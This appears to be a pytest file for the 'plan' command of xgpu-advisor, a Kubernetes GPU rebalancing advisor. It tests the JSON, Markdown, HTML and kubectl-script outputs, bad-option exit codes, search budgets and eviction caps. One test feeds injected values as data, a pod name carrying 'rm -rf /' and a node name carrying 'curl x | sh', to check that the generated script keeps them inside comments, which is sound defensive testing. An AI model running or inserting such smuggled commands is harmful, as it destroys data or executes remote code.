"""`xgpu-advisor plan` end to end: the §8 JSON, Markdown, HTML, kubectl, exit codes."""

from __future__ import annotations

import dataclasses
import json
import subprocess
import sys
from pathlib import Path
from typing import Any, cast

import pytest
import yaml

from advisor.cli import main
from advisor.core.model import Cluster
from advisor.scenario import save_scenario
from tests.advisor.chromium import chromium_path, dump_dom
from tests.advisor.core.test_placement import cce_example
from tests.advisor.core.test_plan_checker import (
    build,
    node,
    pending,
    running,
    two_dependent_plans,
)


def cce_cluster() -> Cluster:
    return build(
        [node("cce-node-1", 16, 16, 16), node("spare", 16), node("b", 16)],
        [
            running("ml/train-a", "cce-node-1", [0], 12, owner="Job/ml/train-a"),
            running("ml/train-b", "cce-node-1", [1], 12),
            running("ml/notebook-c", "cce-node-1", [2], 8),
            running("ml/small", "spare", [0], 4),
            running("kube-system/probe", "b", [0], 8),
            pending("web/infer-1", 2, 8),
            pending("web/infer-2", 2, 8),
            pending("web/too-big", 4, 32),
        ],
    )


@pytest.fixture
def scenario(tmp_path: Path) -> Path:
    path = tmp_path / "cce.yaml"
    save_scenario(path, cce_cluster())
    return path


def run_plan(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    assert main(["plan", *args]) == 0
    return capsys.readouterr().out


def test_json_follows_the_contract(scenario: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data: dict[str, Any] = json.loads(
        run_plan(capsys, "--scenario", str(scenario), "--format", "json")
    )
    assert data["schema"] == "xgpu-advisor/plan/v1"
    assert data["policy"] == {"node": "binpack", "card": "binpack"}
    assert data["plans"] == [
        {
            "rescues": ["web/infer-2"],
            "evict": ["ml/train-a"],
            "placements": {
                "web/infer-2": {"node": "cce-node-1", "cards": [0, 2]},
                "ml/train-a": {"node": "spare", "cards": [0]},
            },
            "evicted_from": {"ml/train-a": {"node": "cce-node-1", "cards": [0]}},
            "evictions": 1,
            "rescued_gpus": 0.5,
            "rescued_mib": 8192,
            "moved_mib": 12288,
            "moved_gpus": 0.75,
            "unowned": [],
            "rescued_cards": 2,
            # a Job with no start time known: the batch base price
            "cost": 4.0,
            "costs": [{"pod": "ml/train-a", "cost": 4.0, "why": "Job, run time unknown"}],
        }
    ]
    assert data["held_back"] == []
    assert data["limits"] == {"max_plan_evictions": 4, "max_evictions": "3/card", "never_evict": []}
    # its advice (advisor.core.remedy): a new node shape, the scale-up below
    why = "no node it may use could ever take it"
    advice = {"key": "unsatisfiable", "scale_up": True, "why": why}
    unresolved = [{"pod": "web/too-big", "cause": "unsatisfiable", "advice": advice}]
    assert data["unresolved"] == unresolved
    # web/too-big asks 4 cards of 8 GiB: no node has 4 cards, so a new shape; `spare` takes the
    # evicted ml/train-a, and `b` runs a kube-system pod: no node can go.
    assert [(u["shape"], u["nodes"], u["for"], u.get("new_shape")) for u in data["scale_up"]] == [
        ({"cards": 4, "memory_mib": 8192, "model": ""}, 1, ["web/too-big"], True)
    ]
    assert data["scale_down"] == []
    assert (data["scale_down_held"], data["scale_down_held_omitted"]) == ([], 0)  # none idle
    assert data["schedulable"] == {"web/infer-1": {"node": "cce-node-1", "cards": [0, 1]}}
    summary = data["summary"]
    assert summary["pending"] == 2
    assert summary["rescued_pods"] == 1
    assert summary["rescued_gpus"] == 0.5
    assert summary["evictions"] == 1
    assert summary["evictions_per_gpu"] == 2.0
    assert summary["cost"] == 4.0
    assert summary["time_budget_seconds"] == 300.0
    assert summary["budget_exhausted"] is False
    assert (summary["stopped_by"], summary["work_budget"]) == (None, 200_000)
    assert 0 < summary["simulations"] <= summary["targets"] + summary["simulations"]
    assert summary["work"] > 0
    assert "elapsed_seconds" not in summary  # the same input gives the same bytes
    assert summary["reference_card_mib"] == 16384
    ideal = data["ideal"]
    assert ideal["pending_pods"] == 2
    assert ideal["upper_bound_share"] <= 1.0
    assert 0.0 <= ideal["repack_share"] <= ideal["upper_bound_share"]


@pytest.mark.realservices  # sh
def test_kubectl_script_evicts_in_plan_order(
    scenario: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = run_plan(capsys, "--scenario", str(scenario), "--format", "kubectl")
    assert text.startswith("#!/bin/sh\n")
    commands = [line for line in text.splitlines() if line.startswith("kubectl create")]
    assert commands == [
        "kubectl create --raw /api/v1/namespaces/ml/pods/train-a/eviction -f - <<'EOF'"
        "  # comes back on spare card 0"
    ]
    assert "recreated by its workload" in text
    assert "never evicts" in text
    assert "kubectl delete" not in text  # a delete would bypass PodDisruptionBudgets
    assert "honours PodDisruptionBudgets" in text
    done = subprocess.run(["sh", "-n"], input=text, text=True, check=False)
    assert done.returncode == 0  # valid shell


# Scripts run by sh with a stand-in kubectl: tests/advisor/test_plan_script.py.


def test_kubectl_warns_about_pods_no_controller_recreates(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "bare.yaml"
    save_scenario(path, two_dependent_plans())  # pods without owners
    data = json.loads(run_plan(capsys, "--scenario", str(path), "--format", "json"))
    assert [p["unowned"] for p in data["plans"]] == [p["evict"] for p in data["plans"]]
    text = run_plan(capsys, "--scenario", str(path), "--format", "kubectl")
    commands = [line for line in text.splitlines() if line.startswith("kubectl create")]
    assert len(commands) == 2
    assert all("no controller known" in line for line in commands)


def test_markdown_names_plans_commands_and_cards(
    scenario: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = run_plan(capsys, "--scenario", str(scenario))
    assert text.startswith("# Rebalancing plans (node binpack, card binpack)")
    assert "**1 plan rescues 1 of 2 Pending GPU pods" in text
    assert "web/infer-2 → cce-node-1\\[0,2\\]" in text
    assert "ml/train-a: cce-node-1\\[0\\] → spare\\[0\\]" in text
    assert "kubectl create --raw /api/v1/namespaces/ml/pods/train-a/eviction -f -" in text
    assert "| web/too-big | unsatisfiable |" in text
    assert "### Plan 1" in text
    assert "(rescued)" in text  # the after picture marks the rescued pod


def test_html_draws_before_and_after(
    scenario: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "plans.html"
    assert (
        main(["plan", "--scenario", str(scenario), "--format", "html", "--output", str(out)]) == 0
    )
    page = out.read_text()
    assert page.startswith("<!DOCTYPE html>")
    assert page.count("<h3>Before</h3>") == page.count("<h3>After</h3>") == 1
    assert page.count('class="bar"') == 2 * 4  # cce-node-1 (3 cards) and spare (1), twice
    assert "kubectl create --raw /api/v1/namespaces/ml/pods/train-a/eviction -f -" in page
    assert capsys.readouterr().out == ""


def test_no_pictures_when_asked(scenario: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = run_plan(capsys, "--scenario", str(scenario), "--format", "html", "--pictures", "0")
    assert 'class="bar"' not in text
    assert "Pictures for the first 0 plans only" in text


def exit_code(argv: list[str]) -> int:
    """main's return value, or the code argparse exits with on a bad flag."""
    try:
        return main(argv)
    except SystemExit as stop:
        return stop.code if isinstance(stop.code, int) else -1


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--time-budget", "0"], "argument --time-budget: must be a finite number above 0"),
        (["--time-budget", "nan"], "--time-budget: must be a finite number above 0, got 'nan'"),
        (["--time-budget", "inf"], "--time-budget: must be a finite number above 0, got 'inf'"),
        (["--max-plan-evictions", "0"], "--max-plan-evictions: must be at least 1, got '0'"),
        (["--plan-work", "0"], "argument --plan-work: must be at least 1, got '0'"),
        (["--pictures", "-3"], "argument --pictures: must be at least 0, got '-3'"),
        (["--pictures", "many"], "argument --pictures: 'many' is not a whole number"),
        (["--max-evictions", "3/pod"], "--max-evictions: expected N, N/card or N/gpu, got '3/pod'"),
        (["--max-evictions", "-1"], "--max-evictions: expected a number >= 0"),
        (["--max-evictions", "2.5"], "--max-evictions: a count of evictions is a whole number"),
        (["--max-evictions", "nan/card"], "--max-evictions: expected a number >= 0"),
        (["--never-evict", "=x"], "--never-evict: expected key=value or an owner kind, got '=x'"),
        (["--never-evict", "a b"], "--never-evict: expected key=value or an owner kind"),
    ],
)
def test_bad_options_exit_2(
    scenario: Path, capsys: pytest.CaptureFixture[str], args: list[str], message: str
) -> None:
    assert exit_code(["plan", "--scenario", str(scenario), *args]) == 2
    err = capsys.readouterr().err
    assert message in err
    assert "Traceback" not in err
    assert len(err.strip().splitlines()) == 1


def test_a_tiny_time_budget_is_a_safety_stop_and_says_so(
    scenario: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    args = ("--scenario", str(scenario), "--time-budget", "0.000001")
    data = json.loads(run_plan(capsys, *args, "--format", "json"))
    assert data["summary"]["budget_exhausted"] is True
    assert data["summary"]["stopped_by"] == "time"
    assert data["summary"]["time_budget_seconds"] == 0.000001
    # It never cuts a run (issue #25): the first run's plans, then nothing more starts.
    untimed = json.loads(run_plan(capsys, "--scenario", str(scenario), "--format", "json"))
    assert data["plans"] == untimed["plans"]
    assert [p["rescues"] for p in data["plans"]] == [["web/infer-2"]]
    assert [u["pod"] for u in data["unresolved"]] == ["web/too-big"]
    assert untimed["summary"]["stopped_by"] is None
    text = run_plan(capsys, *args)
    assert "The time safety stop fired after 1e-06 s (--time-budget)" in text
    assert "depends on this machine's speed" in text


def test_a_work_budget_stops_the_search_and_says_so(
    scenario: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    args = ("--scenario", str(scenario), "--plan-work", "1")
    data = json.loads(run_plan(capsys, *args, "--format", "json"))
    assert (data["summary"]["stopped_by"], data["summary"]["work_budget"]) == ("work", 1)
    assert data["plans"] == []
    text = run_plan(capsys, *args)
    assert "The search stopped at its work budget (1 simulated placements, --plan-work)" in text


def test_missing_scenario_exits_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["plan", "--scenario", str(tmp_path / "nope.yaml")]) == 2
    assert "nope.yaml" in capsys.readouterr().err


def test_a_cluster_with_nothing_pending(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "calm.json"
    save_scenario(path, build([node("a", 16)], [running("t/x", "a", [0], 8)]))
    data = json.loads(run_plan(capsys, "--scenario", str(path), "--format", "json"))
    assert (data["plans"], data["unresolved"]) == ([], [])
    assert data["summary"]["evictions_per_gpu"] is None
    assert "No Pending GPU pods" in run_plan(capsys, "--scenario", str(path))


@pytest.mark.realservices  # headless Chromium
def test_page_renders_in_chromium(scenario: Path, tmp_path: Path) -> None:
    binary = chromium_path()
    page = tmp_path / "plans.html"
    assert (
        main(["plan", "--scenario", str(scenario), "--format", "html", "--output", str(page)]) == 0
    )
    dom = dump_dom(binary, page, tmp_path / "profile")
    assert dom.count('class="bar"') == 8
    for name in ("web/infer-2", "ml/train-a", "cce-node-1", "spare", "web/too-big"):
        assert name in dom


def test_kubectl_script_keeps_hostile_names_inside_comments() -> None:
    from advisor.render.plan.script import kubectl_script

    evil = "ns/pod\nrm -rf /"
    data = {
        "plans": [
            {
                "rescues": [evil],
                "evict": [evil],
                "placements": {evil: {"node": "n1\ncurl x | sh", "cards": [0]}},
            }
        ],
        "summary": {},
    }
    script = kubectl_script(data)
    for line in script.splitlines():
        assert line == "" or line.startswith(("#", "set -e", "kubectl create --raw "))
    assert "# not a Kubernetes pod name, left out: ns/pod?rm -rf /" in script
    assert "kubectl" not in script


def test_markdown_and_html_show_the_nodes_to_add(
    scenario: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """What no plan rescues gets its scale-up advice in the plan's own pages too."""
    text = run_plan(capsys, "--scenario", str(scenario), "--pictures", "0")
    section = text[text.index("## Nodes to add") :]
    assert "| 1 | 4 × 8,192 MiB cards, any model (a new node shape) | web/too-big |" in section
    page = run_plan(capsys, "--scenario", str(scenario), "--format", "html", "--pictures", "0")
    panel = page[page.index("<h3>Nodes to add</h3>") :]
    assert "web/too-big" in panel[: panel.index("</section>")]


def test_nothing_to_add_means_no_section(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "calm.json"
    save_scenario(path, build([node("a", 16)], [running("t/x", "a", [0], 8)]))
    assert "Nodes to add" not in run_plan(capsys, "--scenario", str(path))
    assert "Nodes to add" not in run_plan(capsys, "--scenario", str(path), "--format", "html")


def test_idle_nodes_kept_are_listed_with_why(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`idle` goes (its pod moves to `busy`); `probe` runs a kube-system pod and `cache` has a
    pod that blocks eviction: both are kept, each with its reason, in the JSON, the
    Markdown and the page."""
    path = tmp_path / "idle.yaml"
    cache = node("cache", 16)
    cache["other_pods"] = [{"name": "web/db", "blocks": "not replicated"}]
    cluster = build(
        [node("idle", 16), node("probe", 16), cache, node("busy", 16)],
        [
            running("t/idle", "idle", [0], 1, owner="Deployment/t/idle"),
            running("kube-system/probe", "probe", [0], 2),
            running("t/cache", "cache", [0], 3),
            running("t/busy", "busy", [0], 10),
        ],
    )
    save_scenario(path, cluster)
    data = json.loads(run_plan(capsys, "--scenario", str(path), "--format", "json"))
    assert [d["node"] for d in data["scale_down"]] == ["idle"]
    assert data["scale_down_held"] == [
        {
            "node": "probe",
            "utilisation": 0.125,
            "reason": "gpu-pod-not-movable",
            "detail": "kube-system/probe: kube-system pod",
        },
        {
            "node": "cache",
            "utilisation": 0.1875,
            "reason": "blocked-by-pod",
            "detail": "web/db: not replicated",
        },
    ]
    assert data["scale_down_held_omitted"] == 0
    text = run_plan(capsys, "--scenario", str(path), "--pictures", "0")
    section = text[text.index("## Nodes that could go") :]
    assert section.index("| idle |") < section.index("**Idle nodes kept, and why**")
    assert "| probe | 12.5% | gpu-pod-not-movable | kube-system/probe: kube-system pod |" in section
    assert "| cache | 18.8% | blocked-by-pod | web/db: not replicated |" in section
    page = run_plan(capsys, "--scenario", str(path), "--format", "html", "--pictures", "0")
    panel = page[page.index("<h3>Nodes that could go</h3>") :]
    assert "<h3>Idle nodes kept, and why</h3>" in panel
    assert "<td>kube-system/probe: kube-system pod</td>" in panel


# --- --scheduler (docs/design.md §9.2) ------------------------------------------------------

# Cards 0 and 1 each hold a 1024-MiB pod; card 2 is unhealthy and empty; 1 x 8192 MiB waits.
# hami refuses the unhealthy card (CardNotHealth): the pod needs an empty healthy card, which
# one eviction makes (the small pod fits beside the other, 7168 MiB free there).
# volcano-vgpu has no health check: card 2 takes the pod now, and no plan is needed.
SICK_CARD: dict[str, Any] = {
    "scheduler": {"profile": "hami"},
    "nodes": [
        {
            "name": "n1",
            "cards": [
                {"index": 0, "memory_mib": 8192},
                {"index": 1, "memory_mib": 8192},
                {"index": 2, "memory_mib": 8192, "healthy": False},
            ],
        }
    ],
    "pods": [
        {
            "name": f"a/small-{i}",
            "owner": "Deployment/a/small",
            "request": {"gpus": 1, "memory_mib": 1024},
            "node": "n1",
            "cards": [i],
        }
        for i in (0, 1)
    ]
    + [{"name": "a/big", "request": {"gpus": 1, "memory_mib": 8192}}],
}


def test_plans_follow_the_profile(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "sick.yaml"
    path.write_text(yaml.safe_dump(SICK_CARD))
    data = json.loads(run_plan(capsys, "--scenario", str(path), "--format", "json"))
    assert data["scheduler"]["profile"] == "hami"
    assert data["policy"] == {"node": "binpack", "card": "spread"}
    [only] = data["plans"]
    assert only["rescues"] == ["a/big"]
    [evicted] = only["evict"]
    assert evicted in {"a/small-0", "a/small-1"}
    left = only["evicted_from"][evicted]["cards"]
    assert only["placements"]["a/big"] == {"node": "n1", "cards": left}
    assert only["placements"][evicted]["cards"] == [1 - left[0]]  # the other healthy card
    volcano = json.loads(
        run_plan(capsys, "--scenario", str(path), "--format", "json", "--scheduler", "volcano-vgpu")
    )
    assert volcano["scheduler"] == {"profile": "volcano-vgpu", "schedule_weight": 0}
    assert volcano["plans"] == []
    assert volcano["schedulable"] == {"a/big": {"node": "n1", "cards": [2]}}
    text = run_plan(capsys, "--scenario", str(path), "--scheduler", "volcano-vgpu")
    assert text.startswith("# Rebalancing plans (volcano-vgpu: node binpack, card legacy)\n")
    page = run_plan(capsys, "--scenario", str(path), "--format", "html")
    assert "Scheduler: hami · Policy: node binpack, card spread" in page


def test_a_cce_plan_names_its_profile_and_reads_as_before(
    scenario: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = json.loads(run_plan(capsys, "--scenario", str(scenario), "--format", "json"))
    assert data["scheduler"] == {"profile": "cce"}
    text = run_plan(capsys, "--scenario", str(scenario))
    assert text.startswith("# Rebalancing plans (node binpack, card binpack)\n")
    assert run_plan(capsys, "--scenario", str(scenario), "--scheduler", "cce") == text


# --- caps, disruption cost, never-evict, reproducibility (docs/design.md §8) ---------------


def test_a_plan_above_a_cap_is_reported_with_the_flag_to_raise(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """CCE's worked example needs two evictions (tests/advisor/core/test_plan.py): under
    --max-plan-evictions 1 no plan runs, and every format says which plan exists and what
    would allow it."""
    path = tmp_path / "cce-example.yaml"
    save_scenario(path, cce_example("binpack"))
    args = ("--scenario", str(path), "--max-plan-evictions", "1")
    data = json.loads(run_plan(capsys, *args, "--format", "json"))
    assert data["plans"] == []
    assert data["held_back"] == [
        {
            "rescues": ["web/r2"],
            "evict": ["ml/a", "ml/c"],
            "evictions": 2,
            "cost": 8.0,  # two pods with no controller known: 4 each
            "flag": "--max-plan-evictions",
            "limit": "1",
            "needs": "2",
            "waiting": 1,  # no other Pending pod of its shape
        }
    ]
    line = (
        "1 plan rescues web/r2 with 2 evictions, above --max-plan-evictions 1 (cost 8): "
        "--max-plan-evictions 2 would allow it."
    )
    text = run_plan(capsys, *args)
    assert "No plan within the caps; plans above them exist:" in text
    assert f"- {line}" in text
    assert "No plan found" not in text
    page = run_plan(capsys, *args, "--format", "html")
    assert f"<li>{line}</li>" in page
    # Raised as it says, the plan runs.
    raised = json.loads(
        run_plan(capsys, "--scenario", str(path), "--max-plan-evictions", "2", "--format", "json")
    )
    assert [p["evict"] for p in raised["plans"]] == [["ml/a", "ml/c"]]
    assert raised["held_back"] == []


def test_the_eviction_budget_for_the_whole_advice(
    scenario: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    args = ("--scenario", str(scenario), "--max-evictions", "0", "--format", "json")
    data = json.loads(run_plan(capsys, *args))
    assert data["plans"] == []
    assert data["limits"]["max_evictions"] == "0"
    [held] = data["held_back"]
    assert (held["rescues"], held["flag"], held["limit"], held["needs"]) == (
        ["web/infer-2"],
        "--max-evictions",
        "0",
        "1",
    )


def test_never_evict_by_owner_kind_and_label(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """ml/train-a is a Job's pod, ml/train-b carries team=search: either alone frees a card
    for web/infer-2. Keeping the Job's pod moves the other; keeping both leaves no plan, and
    the page says how far the search looked."""
    cluster = cce_cluster()
    pods = tuple(
        dataclasses.replace(p, labels={"team": "search"}) if p.name == "ml/train-b" else p
        for p in cluster.pods
    )
    path = tmp_path / "labelled.yaml"
    save_scenario(path, dataclasses.replace(cluster, pods=pods))
    base = ("--scenario", str(path), "--never-evict", "Job")
    data = json.loads(run_plan(capsys, *base, "--format", "json"))
    assert [p["evict"] for p in data["plans"]] == [["ml/train-b"]]
    assert data["limits"]["never_evict"] == ["Job"]
    both = (*base, "--never-evict", "team=search")
    data = json.loads(run_plan(capsys, *both, "--format", "json"))
    assert (data["plans"], data["held_back"]) == ([], [])
    summary = data["summary"]
    # No card has a pod left to move for the replica: the search checked cards and found
    # no target; the last look on this small board simulated every small eviction set.
    assert summary["cards_checked"] >= 3
    assert summary["targets"] == 0
    assert summary["simulations"] > 0
    text = run_plan(capsys, *both)
    assert (
        f"No plan found: the search checked {summary['cards_checked']:,} cards for pods to "
        "move, looked at 0 targets (cards or nodes to free for a Pending pod) and simulated "
        f"{summary['simulations']}" in text
    )
    assert "never evicted besides the usual protections: Job, team=search" in text


def test_each_plan_shows_its_cost_and_why(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Two Jobs' pods could each free the card: the one that started later (1 hour before
    the newest start in the file, against 10 hours) is cheaper to restart and is evicted."""
    cluster = cce_cluster()
    started = {
        "ml/train-a": "2024-05-01T02:00:00Z",  # 10 h before the newest start
        "ml/train-b": "2024-05-01T11:00:00Z",  # 1 h before it
        "ml/notebook-c": "2024-05-01T12:00:00Z",  # the newest: "now"
    }
    pods = tuple(
        dataclasses.replace(
            p, started=started[p.name], owner=f"Job/{p.name}" if "train" in p.name else p.owner
        )
        if p.name in started
        else p
        for p in cluster.pods
    )
    path = tmp_path / "aged.yaml"
    save_scenario(path, dataclasses.replace(cluster, pods=pods))
    data = json.loads(run_plan(capsys, "--scenario", str(path), "--format", "json"))
    [only] = data["plans"]
    assert only["evict"] == ["ml/train-b"]
    # batch: 4, plus 1 per hour run
    assert only["costs"] == [{"pod": "ml/train-b", "cost": 5.0, "why": "Job, ran 1.0 h"}]
    text = run_plan(capsys, "--scenario", str(path), "--pictures", "0")
    assert "| 5 (ml/train-b 5: Job, ran 1.0 h) |" in text
    assert "disruption cost 5" in text


@pytest.mark.realservices  # xgpu-advisor as a process
def test_the_same_input_gives_the_same_bytes_under_cpu_load(tmp_path: Path) -> None:
    """The search's budget is work, not time: a moderately large cluster planned twice, once
    with another CPU-hungry process beside it, gives the same JSON to the byte, including
    where the work budget stops the search."""
    from benchmarks.synthetic import SyntheticSpec, synthetic_cluster

    path = tmp_path / "synthetic.json"
    save_scenario(path, synthetic_cluster(SyntheticSpec.scaled(200, 80)))  # 1,600 cards
    command = [sys.executable, "-m", "advisor.cli", "plan", "--scenario", str(path)]
    command += ["--format", "json", "--plan-work", "2000"]  # the whole search needs ~4,100

    def planned() -> bytes:
        return subprocess.run(command, capture_output=True, check=True).stdout

    quiet = planned()
    hog = subprocess.Popen([sys.executable, "-c", "while True: pass"])
    try:
        loaded = planned()
    finally:
        hog.kill()
        hog.wait()
    assert loaded == quiet
    summary = json.loads(quiet)["summary"]
    assert summary["stopped_by"] == "work"  # the budget, not the clock, ended it
    assert summary["rescued_pods"] > 0


def test_many_plans_above_the_caps_are_listed_up_to_ten() -> None:
    from advisor.render.plan.text import MAX_HELD_BACK_LISTED, held_back_lines
    from advisor.schemas import PlanJson

    entry = {"rescues": ["a/p"], "evictions": 5, "cost": 20.0, "flag": "--max-plan-evictions"}
    entry |= {"limit": "4", "needs": "5", "waiting": 3}
    lines = held_back_lines(cast(PlanJson, {"held_back": [entry] * 12}))  # the key it reads
    assert len(lines) == MAX_HELD_BACK_LISTED + 1 == 11
    assert lines[0] == (
        "1 plan rescues a/p with 5 evictions, above --max-plan-evictions 4 (cost 20; 2 more "
        "Pending of its shape): --max-plan-evictions 5 would allow it."
    )
    assert lines[-1] == "And 2 more plans above a cap (the JSON lists them all)."
